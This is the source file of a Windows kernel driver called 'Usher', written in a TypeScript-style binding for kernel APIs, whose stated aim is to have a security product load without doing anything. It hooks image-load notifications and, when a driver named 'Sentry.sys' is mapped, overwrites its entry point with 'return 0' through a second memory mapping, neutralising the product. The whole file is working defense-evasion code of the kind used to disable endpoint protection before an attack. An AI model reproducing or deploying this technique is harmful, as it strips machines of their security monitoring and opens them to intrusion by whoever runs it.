/*
 * Usher: has a security product start without doing anything.
 *
 * Image notify routines are told when an image is mapped, before the first of its instructions runs.
 * The driver finds the entry point of the newcomer in its header, and writes "return 0" over it. The
 * driver is loaded, its service runs, its module is listed; of its code nothing ever ran.
 */
import {
  DbgPrint,
  FALSE,
  IoAllocateMdl,
  IoFreeMdl,
  IoReadAccess,
  KernelMode,
  MmCached,
  MmMapLockedPagesSpecifyCache,
  MmProbeAndLockPages,
  MmUnlockPages,
  MmUnmapLockedPages,
  NormalPagePriority,
  PWSTR,
  PsRemoveLoadImageNotifyRoutine,
  PsSetLoadImageNotifyRoutine,
  RTL_CONSTANT_STRING,
  RtlEqualUnicodeString,
  TRUE,
  UNICODE_STRING,
  cast,
  local,
} from 'wdm'
import type { DRIVER_OBJECT, HANDLE, NTSTATUS, PVOID, IMAGE_INFO } from 'wdm'

const Unwanted = RTL_CONSTANT_STRING('\\Sentry.sys')
/** Where the header of a file says where the newer one lies, and where that has the entry point. */
const E_LFANEW = 0x3c
const ADDRESS_OF_ENTRY_POINT = 0x28
/** xor eax, eax; ret: STATUS_SUCCESS, at once. */
const RETURN_0 = [0x33, 0xc0, 0xc3]

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.DriverUnload = UsherUnload
  return PsSetLoadImageNotifyRoutine(UsherNotify)
}

function UsherNotify(
  FullImageName: UNICODE_STRING,
  ProcessId: HANDLE,
  ImageInfo: IMAGE_INFO,
): void {
  // Process 0 stands for the kernel: the image is one of a driver.
  if (ProcessId !== 0 || !EndsWith(FullImageName, Unwanted)) return
  const base = ImageInfo.ImageBase
  const header = base.add(base.add(E_LFANEW).u32[0])
  const entry = base.add(header.add(ADDRESS_OF_ENTRY_POINT).u32[0])
  if (Write(entry)) DbgPrint('Usher: %wZ returns at %p\n', FullImageName, entry)
}

/** Write over code through a second mapping: where the kernel has it, it is read-only. */
function Write(Code: PVOID): boolean {
  const mdl = IoAllocateMdl(Code, RETURN_0.length, FALSE, FALSE, null)
  if (mdl === null) return false
  MmProbeAndLockPages(mdl, KernelMode, IoReadAccess)
  const mapped = MmMapLockedPagesSpecifyCache(
    mdl,
    KernelMode,
    MmCached,
    null,
    FALSE,
    NormalPagePriority,
  )
  if (mapped !== null) {
    for (let i = 0; i < RETURN_0.length; i++) mapped.u8[i] = RETURN_0[i]
    MmUnmapLockedPages(mapped, mdl)
  }
  MmUnlockPages(mdl)
  IoFreeMdl(mdl)
  return mapped !== null
}

/** Whether a path ends with a name, whatever the case. */
function EndsWith(Path: UNICODE_STRING, Name: UNICODE_STRING): boolean {
  if (Path === null || Path.Length < Name.Length) return false
  const end = local(UNICODE_STRING)
  end.Length = Name.Length
  end.MaximumLength = Name.Length
  end.Buffer = cast(PWSTR, Path.Buffer.add(Path.Length - Name.Length))
  return RtlEqualUnicodeString(end, Name, TRUE) !== 0
}

function UsherUnload(DriverObject: DRIVER_OBJECT): void {
  PsRemoveLoadImageNotifyRoutine(UsherNotify)
}
